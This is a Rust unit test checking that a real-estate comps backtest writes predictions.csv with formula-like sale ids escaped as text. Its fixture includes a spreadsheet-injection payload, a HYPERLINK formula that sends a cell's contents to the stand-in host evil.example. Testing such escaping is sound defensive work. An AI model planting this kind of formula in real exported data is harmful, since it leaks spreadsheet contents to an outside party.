//! Unit tests of `cli::comps::backtest`: predictions.csv is safe to open in a spreadsheet.
use super::*;
use crate::analytics::comps::run_backtest;
use crate::analytics::comps::testdata::synthetic_sales;

/// A sale id that is a spreadsheet formula comes out of a real backtest's predictions.csv as
/// text, and negative-looking ids too; numbers are untouched.
#[test]
fn predictions_csv_neutralizes_formula_sale_ids() {
    let mut sales = synthetic_sales(400, 5);
    let from = NaiveDate::from_ymd_opt(2008, 10, 1).unwrap();
    let to = NaiveDate::from_ymd_opt(2008, 12, 31).unwrap();
    let evil = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
    let subjects: Vec<String> = crate::analytics::comps::backtest_subjects(&sales, from, to)
        .iter()
        .take(2)
        .map(|s| s.id.clone())
        .collect();
    for s in &mut sales {
        if s.id == subjects[0] {
            s.id = evil.to_owned();
        } else if s.id == subjects[1] {
            s.id = "-2+3".to_owned();
        }
    }
    let bt = run_backtest(&sales, from, to, &CompConfig::default()).unwrap();
    let bytes = predictions_csv(Vec::new(), &bt.predictions).unwrap();
    let text = String::from_utf8(bytes).unwrap();
    assert!(
        !text.lines().any(|l| l.starts_with('=') || l.starts_with('-')),
        "{text}"
    );
    let mut rdr = csv::Reader::from_reader(text.as_bytes());
    let rows: Vec<csv::StringRecord> = rdr.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), bt.predictions.len());
    let ids: Vec<&str> = rows.iter().map(|r| &r[0]).collect();
    assert!(ids.contains(&format!("'{evil}").as_str()), "{ids:?}");
    assert!(ids.contains(&"'-2+3"), "{ids:?}");
    for (r, p) in rows.iter().zip(&bt.predictions) {
        assert_eq!(r[1].parse::<f64>().unwrap(), p.sale_price.round());
        assert_eq!(r[5].parse::<usize>().unwrap(), p.comps_used);
    }
}
